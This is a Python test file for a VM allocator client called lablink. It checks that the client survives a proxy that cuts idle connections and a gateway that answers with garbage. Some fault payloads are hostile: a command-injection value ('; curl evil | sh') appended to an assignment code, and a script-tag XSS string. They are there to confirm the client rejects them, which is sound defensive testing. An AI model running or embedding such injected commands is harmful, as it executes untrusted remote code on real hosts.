"""What lies between a VM and the allocator: a proxy that cuts idle connections, a gateway that answers garbage.

The server's poll window here is 2 s instead of 45 s, and the proxy cuts after
3 s idle instead of 60 s: the same proportion as the defaults against a common
load balancer, so the test takes seconds instead of minutes.
"""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tornado import httpserver, netutil, web
from tornado.httpclient import AsyncHTTPClient, HTTPRequest

from conftest import VmProcess, fresh_code, linux_command, query, until
from processes import IdleCuttingProxy

POLL_WINDOW = 2.0
IDLE_CUT = 3.0

pytestmark = pytest.mark.slow


@pytest.fixture
def lablink_config(lablink_config: dict[str, Any]) -> dict[str, Any]:
    return {**lablink_config, "poll_timeout": POLL_WINDOW}


def warnings_in(log: str) -> list[str]:
    """The lines of a lablink-subscribe log at WARNING or above."""
    return [line for line in log.splitlines() if re.search(r" (WARNING|ERROR|CRITICAL) ", line)]


async def test_a_proxy_cutting_idle_connections_breaks_nothing(lablink, tmp_path: Path) -> None:
    # The control first: a proxy cutting before the poll window ends does break polls.
    cutting = await IdleCuttingProxy(lablink.port, idle_cut=POLL_WINDOW / 2).start()
    control = VmProcess("cut-vm", tmp_path / "cut-vm", f"http://127.0.0.1:{cutting.port}{lablink.base_url}")
    control.home.mkdir(parents=True)
    steady = await IdleCuttingProxy(lablink.port, idle_cut=IDLE_CUT).start()
    vm = VmProcess("lab-vm-1", tmp_path / "lab-vm-1", f"http://127.0.0.1:{steady.port}{lablink.base_url}")
    vm.home.mkdir(parents=True)
    try:
        control.start()
        await until(lambda: cutting.cuts >= 2 and warnings_in(control.log()), within=60)
        control.stop()
        query(lablink.database_url, "UPDATE vms SET last_seen_at = now() - interval '1 hour' WHERE hostname = 'cut-vm'")

        vm.start()
        # Several whole poll windows go through the proxy, each one idle for POLL_WINDOW seconds.
        await until(lambda: steady.requests >= 4, within=60)
        assert steady.cuts == 0
        # start-host takes longer than the idle cut: the kept-alive connection is cut meanwhile.
        vm.crd_dir.joinpath("delay").write_text(str(IDLE_CUT + 1))
        reply = await lablink.request_vm("alice", linux_command(fresh_code()))
        assert reply.code == 200 and reply.body["hostname"] == "lab-vm-1", reply
        await lablink.wait_for_status("alice", "active", within=60)
        assert steady.cuts >= 1
        assert (await lablink.call("POST", "lablink/api/release", user="alice")).code == 200
        await until(lambda: query(lablink.database_url,
                                  "SELECT status FROM vms WHERE hostname = 'lab-vm-1'") == [("available",)], within=60)
        polled = steady.requests
        await until(lambda: steady.requests >= polled + 2, within=60)
    finally:
        vm.stop()
        control.stop()
        await steady.stop()
        await cutting.stop()
    assert warnings_in(vm.log()) == [], vm.log()
    assert "assignment received" in vm.log() and "released" in vm.log()


# -- a gateway that answers garbage ---------------------------------------------------------------

Fault = Callable[[web.RequestHandler], Any]
#: In a script: pass this one request through (polls with wait=0, so the script moves on at once).
PASS = "pass"


def answer(status: int, content_type: str, body: str | bytes, **headers: str) -> Fault:
    """A fault that answers with this status, type and body."""
    def fault(handler: web.RequestHandler) -> None:
        handler.set_status(status)
        handler.set_header("Content-Type", content_type)
        for name, value in headers.items():
            handler.set_header(name.replace("_", "-"), value)
        handler.finish(body)
    return fault


async def cut_transfer(handler: web.RequestHandler) -> None:
    """Promise 400 bytes of JSON, send 40, hang up."""
    stream = handler.request.connection.detach()  # type: ignore[union-attr]
    handler._auto_finish = False  # the connection is ours now
    await stream.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 400\r\n\r\n"
                       b'{"status": "assigned", "hostname": "lab-vm')
    stream.close()


class FaultyGateway:
    """An HTTP gateway in front of the allocator that answers scripted requests with garbage."""

    def __init__(self, upstream: str, scripts: dict[str, list[Any]]) -> None:
        self.upstream = upstream
        self.scripts = scripts
        self.seen: list[str] = []
        sockets = netutil.bind_sockets(0, "127.0.0.1")
        self.port = sockets[0].getsockname()[1]
        app = web.Application([(r"/(.*)", _GatewayHandler, {"gateway": self})])
        self.server = httpserver.HTTPServer(app)
        self.server.add_sockets(sockets)
        self.client = AsyncHTTPClient(force_instance=True)

    def next_step(self, path: str, body: bytes) -> Any:
        """The scripted step for this request, or None to forward it as it is."""
        for suffix, script in self.scripts.items():
            if path.endswith(suffix) and script:
                if suffix.endswith("vm_status") and b'"active"' not in body:
                    return None  # only the report of real work is tampered with
                return script.pop(0)
        return None

    def remaining(self, suffix: str) -> int:
        """Steps left in the script for `suffix`."""
        return len(self.scripts.get(suffix, []))

    async def forward(self, handler: web.RequestHandler, body: bytes) -> None:
        """Pass the request to the allocator and its answer back (a 502 if it cannot be reached)."""
        try:
            response = await self.client.fetch(HTTPRequest(
                self.upstream + handler.request.uri, method=handler.request.method,
                body=body if handler.request.method == "POST" else None, request_timeout=120,
                headers={k: v for k, v in handler.request.headers.items()
                         if k in ("Authorization", "Content-Type")}), raise_error=False)
        except Exception:  # noqa: BLE001  (the allocator stopped under a forwarded poll)
            handler.set_status(502)
            handler.finish()
            return
        handler.set_status(response.code)
        handler.set_header("Content-Type", response.headers.get("Content-Type", "application/json"))
        handler.finish(response.body or b"")

    def close(self) -> None:
        """Stop listening."""
        self.server.stop()
        self.client.close()


class _GatewayHandler(web.RequestHandler):
    def initialize(self, gateway: FaultyGateway) -> None:
        self.gateway = gateway

    def check_xsrf_cookie(self) -> None:
        return None

    async def get(self, path: str) -> None:
        self.set_header("Content-Type", "text/html")
        self.finish("<!DOCTYPE html><html><body><form>Sign in to continue</form></body></html>")

    async def post(self, path: str) -> None:
        body = self.request.body
        step = self.gateway.next_step(path, body)
        self.gateway.seen.append(f"{path} {step if isinstance(step, str) else getattr(step, '__name__', 'fault')}")
        if step is None:
            await self.gateway.forward(self, body)
        elif step == PASS:
            # A poll answered at once, so that failures do not pile up into long backoffs.
            await self.gateway.forward(self, json.dumps({**json.loads(body), "wait": 0}).encode())
        else:
            result = step(self)
            if result is not None:
                await result


async def test_garbage_from_the_server_is_logged_once_and_retried_never_run(lablink, tmp_path: Path) -> None:
    valid = fresh_code()
    assigned = {"status": "assigned", "hostname": "lab-vm-1", "pin": "123456", "work_id": 999}
    html_502 = answer(502, "text/html", "<html><body><h1>502 Bad Gateway</h1><hr>nginx</body></html>")
    poll_faults: list[tuple[Fault, str]] = [
        (html_502, "(HTTP 502)"),
        (answer(200, "text/html", "<!DOCTYPE html><html><form>Sign in</form></html>"), "(answer is not JSON)"),
        (answer(200, "application/json", '{"status": "assigned", "hostname": "lab-vm-1", "code": "4/0AVG'),
         "(answer is not JSON)"),
        (cut_transfer, "(answer cut off)"),
        (answer(200, "application/json", json.dumps({**assigned, "code": valid + "; curl evil | sh"})),
         "assignment 999 refused: the code is not a well-formed CRD code; start-host not run"),
        (answer(200, "application/json", json.dumps({**assigned, "hostname": "lab-vm-2", "code": valid})),
         "(assignment addressed to another hostname)"),
        (answer(200, "application/json", json.dumps({**assigned, "code": valid, "pin": None})),
         "(assignment without a usable 'pin')"),
        (answer(200, "application/json", '["assigned", "lab-vm-1"]'), "(unknown status 'none')"),
        (answer(200, "application/json", '{"status": "<script>alert(1)</script>"}'), "(unknown status 'none')"),
        (answer(500, "application/json", '{"error": "Traceback (most recent call last):\\n  File x"}'), "(HTTP 500)"),
        (answer(200, "application/json", ""), "(answer is not JSON)"),
        (answer(302, "text/html", "", Location="/login"), "(answer is not JSON)"),
    ]
    script: list[Any] = [html_502, PASS]  # two in a row: the second wait may be twice as long
    for fault, _ in poll_faults:
        script += [fault, PASS]
    gateway = FaultyGateway(f"http://127.0.0.1:{lablink.port}", {
        "lablink/api/vms/enroll": [answer(502, "text/html", "<html>502</html>")],
        "lablink/vm_startup": script,
        # The report of the real work: once a 503 page (retried), once a 200 page (it never arrived).
        "lablink/api/vm_status": [answer(503, "text/html", "<html>503</html>"),
                                  answer(200, "text/html", "<html>ok</html>")],
    })
    vm = VmProcess("lab-vm-1", tmp_path / "lab-vm-1", f"http://127.0.0.1:{gateway.port}{lablink.base_url}")
    vm.home.mkdir(parents=True)
    try:
        vm.start()
        await until(lambda: gateway.remaining("lablink/vm_startup") == 0
                    and lablink.allocator.listener.waiter_count == 1, within=120)
        assert vm.calls() == [], "start-host ran on garbage"
        code = fresh_code()
        reply = await lablink.request_vm("alice", linux_command(code))
        assert reply.code == 200, reply
        pin = reply.body["pin"]
        # The swallowed report is sent again when the allocator hands the same work out again.
        await lablink.wait_for_status("alice", "active", within=60)
    finally:
        vm.stop()
        gateway.close()

    (call,) = vm.calls()
    assert call["argv"][1] == f"--code={code}"
    log = vm.log()
    problems = warnings_in(log)
    expected = Counter(line for _, line in poll_faults)
    expected["(HTTP 502)"] += 2  # the second 502 in a row, and the enrollment's
    for line, count in expected.items():
        assert sum(line in p for p in problems) == count, (line, problems)
    assert sum("retrying the report" in p and "(HTTP 503)" in p for p in problems) == 1
    assert "report failed no longer needed" in log  # the garbage work, reported to the real allocator
    delays = [float(d) for d in re.findall(r"retrying (?:the report )?in ([0-9.]+) s", log)]
    assert delays and all(d <= 2.0 for d in delays), delays  # failures in a row back off; passes reset it
    for text in ("<html", "<!DOCTYPE", "Traceback", "curl evil", "<script>", valid, code, "123456", pin):
        assert text not in log, text
    # One line a fault, plus: the second 502, the enrollment's 502, the 503 report.
    assert len(problems) == len(poll_faults) + 3, problems
